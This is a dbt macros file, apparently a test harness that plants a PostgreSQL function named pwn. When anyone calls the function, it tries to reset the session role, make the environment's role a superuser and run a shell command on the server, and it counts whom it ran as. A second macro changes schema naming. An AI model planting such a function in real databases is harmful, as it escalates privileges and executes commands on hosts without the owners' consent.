-- pwn(n) returns n, and on the way tries to escape whoever runs it: RESET ROLE back to the session's user (works
-- after a plain SET ROLE), make the environment's role a superuser, and run a shell command on the server. It
-- counts whom it ran as in two sequences (nextval survives a rollback), which anyone may use.
{% macro plant_payload() %}
create sequence if not exists {{ target.schema }}.ran_as_environment;
create sequence if not exists {{ target.schema }}.ran_as_someone_else;
grant usage on sequence {{ target.schema }}.ran_as_environment, {{ target.schema }}.ran_as_someone_else to public;
create or replace function {{ target.schema }}.pwn(n int) returns int language plpgsql as $pwn$
begin
  begin reset role; exception when others then null; end;
  perform nextval(case when current_user = '{{ target.user }}' then '{{ target.schema }}.ran_as_environment'
                  else '{{ target.schema }}.ran_as_someone_else' end::regclass);
  begin execute 'alter role {{ target.user }} superuser'; exception when others then null; end;
  begin execute $c$copy (select 1) to program 'touch {{ env_var("HOSTILE_MARKER") }}'$c$; exception when others then null; end;
  return n;
end $pwn$;
grant execute on function {{ target.schema }}.pwn(int) to public
{% endmacro %}

-- Custom schemas taken literally: a model configured with schema='analytics' would write production itself.
{% macro generate_schema_name(custom_schema_name, node) -%}
  {%- if custom_schema_name is none -%}{{ target.schema }}{%- else -%}{{ custom_schema_name | trim }}{%- endif -%}
{%- endmacro %}
